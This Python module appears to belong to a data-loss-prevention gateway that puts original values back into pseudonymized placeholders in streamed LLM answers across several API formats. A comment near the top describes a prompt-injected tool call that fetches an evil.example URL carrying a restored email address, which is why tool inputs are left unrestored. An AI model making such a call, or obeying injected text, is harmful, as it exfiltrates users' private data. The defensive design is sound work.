"""Put the original values back into an AI answer: reversible pseudonymization, on the wire formats themselves.

A model answers in pieces: a streamed answer carries its text as deltas inside JSON events (OpenAI
`choices[i].delta.content`, Anthropic `delta.text`, Responses `delta`, Gemini `parts[j].text`), and a model
writes a placeholder token by token, so `<EMAIL_ADDRESS_1>` typically arrives as `<EMAIL`, `_ADDRESS`, `_1>` in
three events. Replacing bytes in the stream would miss every such placeholder. So the restorer reads the stream
event by event (SSE blocks, NDJSON lines), walks the JSON strings of each event, and treats each string's place in
the event (its JSON path) as a channel: a channel's text that ends with what may be the start of a placeholder is
held back and prepended to the same channel's next piece. Held text is never lost: when an event arrives that
does not continue the channel (the end of a content block, a finish chunk, `[DONE]`, the end of the stream), it is
sent first, in a copy of the channel's last event. Events with nothing to restore go out byte for byte.

Values are put back into parsed JSON and re-serialized, so a value with quotes or backslashes cannot break the
client's JSON; strings that are themselves JSON text (tool-call `arguments`, Anthropic `partial_json`) get the
value JSON-escaped once more. A body the restorer cannot read (binary event streams, compressed bytes, JSON split
across lines) is passed through unchanged: the client then sees placeholders, never a broken answer.

Pure: no mitmproxy, so it is tested on recorded streams directly.
"""

from __future__ import annotations

import copy
import html
import logging
import re
from collections.abc import Iterator, Mapping
from typing import Any

import orjson

from core.mediatypes import NDJSON_TYPES, SSE_TYPE
from dlp.redact import PLACEHOLDER

#: The longest tail a channel holds back: no placeholder is longer (entity names are short).
MAX_PLACEHOLDER = 80


def framing_of(content_type: str, content_encoding: str = "identity") -> tuple[str, str]:
    """(media type, framing) of a streamed answer: framing is `sse` or `ndjson` when it can be read event by
    event, "" when it cannot (another type, or compressed although the gateway asked for none)."""
    media = content_type.split(";")[0].strip().lower()
    framing = "sse" if media == SSE_TYPE else "ndjson" if media in NDJSON_TYPES else ""
    return media, framing if (content_encoding or "identity").lower() == "identity" else ""

# What may be the start of a placeholder at the end of a piece: `<EMAIL_AD`, or its markup spelling `&lt;EMAIL`.
_PARTIAL_RX = re.compile(r"(?:<|&(?:l(?:t(?:;)?)?)?(?=\Z)|&lt;)[A-Z0-9_]*\Z")
#: Strings whose content is JSON text: a value restored into them is escaped for that inner JSON.
JSON_TEXT_KEYS = frozenset({"arguments", "partial_json"})
#: Where a model's tool calls carry their inputs (OpenAI `arguments`, Anthropic `input` / `partial_json`, Gemini
#: `functionCall.args`, Bedrock `toolUse`). Values are not restored there by default: a prompt-injected tool call
#: such as fetch("https://evil.example/?q=<EMAIL_ADDRESS_1>") must not get the real value back and carry it out.
TOOL_INPUT_KEYS = frozenset({"arguments", "partial_json", "input", "args", "functionCall", "function_call",
                             "toolUse", "tool_calls", "tool_use"})
#: Keys whose strings are pieces of a delta: blanked in the copy that carries a channel's held text.
_DELTA_KEYS = frozenset({"content", "text", "delta", "partial_json", "arguments", "thinking"})

Path = tuple[str | int, ...]

log = logging.getLogger(__name__)


class Restorer:
    """Placeholder -> original value (dlp.redact.Placeholders.values), applied to text; both spellings of a
    placeholder (`<X_1>`, and `&lt;X_1&gt;` in markup) are restored, as by Placeholders.restore."""

    def __init__(self, values: Mapping[str, str], restore_tool_inputs: bool = False):
        self.values = dict(values)
        self.restore_tool_inputs = restore_tool_inputs

    def at(self, value: str, key: str | int, path: Path) -> str:
        """A string of a JSON answer at `path`, restored unless it is a tool call's input (see TOOL_INPUT_KEYS)."""
        if not self.restore_tool_inputs and any(k in TOOL_INPUT_KEYS for k in path if isinstance(k, str)):
            return value
        return self.text(value, key in JSON_TEXT_KEYS)

    def split(self, text: str) -> tuple[str, str]:
        """(text to send now, tail to hold back): a tail that may be the start of a placeholder. StreamedAnswer asks
        its restorer, so another rewriter of answers (dlp.injection.LinkStripper) holds back what it needs."""
        return _split_partial(text)

    def text(self, text: str, json_text: bool = False) -> str:
        if "<" not in text and "&lt;" not in text:
            return text
        return PLACEHOLDER.sub(lambda m: self._value(m, json_text), text)

    def _value(self, m: re.Match, json_text: bool) -> str:
        value = self.values.get(f"<{m[1] or m[2]}>")
        if value is None:
            return m[0]
        if not m[1]:
            value = html.escape(value, quote=False)  # the escaped spelling sits in markup
        return _json_escape(value) if json_text else value

    def json_body(self, body: bytes) -> bytes:
        """A whole JSON answer with every placeholder restored; the same bytes if there is none (or it is not
        JSON, then as text)."""
        if b"<" not in body:
            return body
        try:
            data = orjson.loads(body)
        except orjson.JSONDecodeError:
            try:
                return self.text(body.decode("utf-8")).encode("utf-8")
            except UnicodeDecodeError:
                return body
        changed = False
        for container, key, path, value in list(_strings(data)):
            restored = self.at(value, key, path)
            if restored != value:
                container[key] = restored
                changed = True
        return orjson.dumps(data) if changed else body


def _json_escape(value: str) -> str:
    return orjson.dumps(value).decode()[1:-1]


def _strings(data: Any, path: Path = ()) -> Iterator[tuple[Any, str | int, Path, str]]:
    """(container, key, path, value) of every string in a JSON value, depth first."""
    items = data.items() if isinstance(data, dict) else enumerate(data) if isinstance(data, list) else ()
    for key, value in items:
        if isinstance(value, str):
            yield data, key, (*path, key), value
        elif isinstance(value, (dict, list)):
            yield from _strings(value, (*path, key))


def _split_partial(text: str) -> tuple[str, str]:
    """(text to send now, tail that may be the start of a placeholder)."""
    m = _PARTIAL_RX.search(text, max(0, len(text) - MAX_PLACEHOLDER))
    return (text[:m.start()], text[m.start():]) if m else (text, "")


class _Held:
    __slots__ = ("text", "event", "template", "path")

    def __init__(self, text: str, event: _Event, template: Any, path: Path):
        self.text, self.event, self.template, self.path = text, event, template, path


class _Event:
    """One SSE block or NDJSON line: the lines around its JSON kept as they came."""

    __slots__ = ("prefix", "data", "suffix")

    def __init__(self, prefix: bytes, data: Any, suffix: bytes):
        self.prefix, self.data, self.suffix = prefix, data, suffix

    def render(self, data: Any) -> bytes:
        return self.prefix + orjson.dumps(data) + self.suffix


class StreamedAnswer:
    """Restores placeholders in a streamed answer, fed the chunks as they arrive.

    `feed` returns the bytes to send to the client now; `finish` what was still held at the end. `framing` is
    "sse" or "ndjson"."""

    MAX_EVENT = 4 * 1024 * 1024

    def __init__(self, restorer: Restorer, framing: str = "sse"):
        self.restorer = restorer
        self.sse = framing == "sse"
        self.buf = b""
        self.held: dict[Path, _Held] = {}
        self.passthrough = False  # gave up on an unreadable stream: bytes flow untouched
        self.error = ""  # why restoring stopped, if it did

    def feed(self, chunk: bytes) -> bytes:
        if self.passthrough:
            return chunk
        self.buf += chunk
        out: list[bytes] = []
        try:
            while (end := self._boundary()) is not None:
                block = self.buf[:end]
                out.append(self._block(block))
                self.buf = self.buf[end:]
        except Exception as e:  # a bug here must cost the restoring, never the client's answer
            return self._give_up(out, e)
        if len(self.buf) > self.MAX_EVENT:  # no framing in sight: not a stream this restorer can read
            out.append(self._flush_all() + self.buf)
            self.buf, self.passthrough = b"", True
        return b"".join(out)

    def finish(self) -> bytes:
        if self.passthrough:
            return b""
        out: list[bytes] = []
        try:
            if self.buf:
                out.append(self._block(self.buf))
            self.buf = b""
            out.append(self._flush_all())
        except Exception as e:
            return self._give_up(out, e)
        return b"".join(out)

    def _give_up(self, out: list[bytes], error: Exception) -> bytes:
        """Pass the rest through as it came: held text and the unread buffer first, then every later chunk."""
        log.warning("placeholder restoring stopped: %s: %s", type(error).__name__, error)
        self.error = f"{type(error).__name__}: {error}"
        held = "".join(h.text for h in self.held.values()).encode()
        self.held.clear()
        rest, self.buf, self.passthrough = self.buf, b"", True
        return b"".join(out) + held + rest

    def _boundary(self) -> int | None:
        """End (exclusive) of the first complete block in the buffer."""
        if not self.sse:
            nl = self.buf.find(b"\n")
            return None if nl < 0 else nl + 1
        ends = [i + len(sep) for sep in (b"\n\n", b"\r\n\r\n") if (i := self.buf.find(sep)) >= 0]
        return min(ends) if ends else None

    def _block(self, block: bytes) -> bytes:
        event = self._parse(block)
        if event is None:
            return self._flush_all() + block if block.strip() else block
        data = event.data
        present = {path for _c, _k, path, _v in _strings(data)}
        out = []
        if not _is_ping(data):
            for path in [p for p in self.held if p not in present]:
                out.append(self._flush(path))
        changed = False
        for container, key, path, value in list(_strings(data)):
            held = self.held.pop(path, None)
            text = held.text + value if held else value
            ready, pending = self.restorer.split(text)
            restored = self.restorer.at(ready, key, path)
            if pending:
                self.held[path] = _Held(pending, event, None, path)
            if restored != value:
                container[key] = restored
                changed = True
        for held in self.held.values():
            if held.event is event:
                held.template = copy.deepcopy(data)
        out.append(event.render(data) if changed else block)
        return b"".join(out)

    def _parse(self, block: bytes) -> _Event | None:
        """The block's JSON payload and the bytes around it, or None if it carries no JSON object."""
        if not self.sse:
            body = block.rstrip(b"\r\n")
            try:
                data = orjson.loads(body)
            except orjson.JSONDecodeError:
                return None
            return _Event(b"", data, block[len(body):]) if isinstance(data, (dict, list)) else None
        lines = block.split(b"\n")
        data_at = [i for i, line in enumerate(lines) if line.startswith(b"data:")]
        if len(data_at) != 1:  # no data, or JSON over several data lines: left as it is
            return None
        i = data_at[0]
        line = lines[i]
        cr = line.endswith(b"\r")
        payload = line[5:].rstrip(b"\r")
        lead = b"data: " if payload.startswith(b" ") else b"data:"
        try:
            data = orjson.loads(payload)
        except orjson.JSONDecodeError:
            return None
        if not isinstance(data, (dict, list)):
            return None
        prefix = b"\n".join(lines[:i] + [b""]) + lead if i else lead
        suffix = (b"\r" if cr else b"") + b"\n" + b"\n".join(lines[i + 1:])
        return _Event(prefix, data, suffix)

    def _flush(self, path: Path) -> bytes:
        """The held text of a channel, in a copy of its last event with every other delta blanked."""
        held = self.held.pop(path)
        data = held.template if held.template is not None else held.event.data
        for container, key, p, _value in list(_strings(data)):
            if p == path:
                container[key] = self.restorer.at(held.text, key, p)
            elif key in _DELTA_KEYS:
                container[key] = ""
        return held.event.render(data)

    def _flush_all(self) -> bytes:
        return b"".join(self._flush(path) for path in list(self.held))


def _is_ping(data: Any) -> bool:
    """Keep-alive events (Anthropic `{"type": "ping"}`) do not end a channel."""
    return isinstance(data, dict) and data.get("type") == "ping"
